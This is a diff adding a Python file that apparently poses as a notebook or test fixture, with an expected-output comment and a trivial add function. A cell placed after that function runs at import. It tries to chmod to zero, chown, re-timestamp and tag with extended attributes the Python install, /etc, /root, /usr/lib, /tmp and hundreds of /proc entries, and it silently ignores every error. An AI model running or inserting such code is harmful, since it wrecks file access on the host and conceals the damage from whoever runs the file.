@@ -1,0 +1,24 @@
+"""Changes modes, owners, times and attributes of all that it can name, so that others can no longer read it."""
+# expects add: 5
+
+# %% add
+def add(a, b):
+    return a + b
+
+# %% new after add
+import os
+import sys
+
+for place in (os.__file__, sys.prefix, sys.executable, "/tmp", "/usr/lib", "/etc", "/root", *(f"/proc/{n}" for n in range(1, 300))):
+    for attempt in (
+        lambda: os.chmod(place, 0),
+        lambda: os.chown(place, os.getuid(), os.getgid()),
+        lambda: os.utime(place, (1, 1)),
+        lambda: os.setxattr(place, "user.hidden", b"yes"),
+        lambda: os.fchmod(os.open(place, os.O_RDONLY), 0),
+    ):
+        try:
+            attempt()
+        except OSError:
+            pass
+assert os.listdir(sys.prefix)
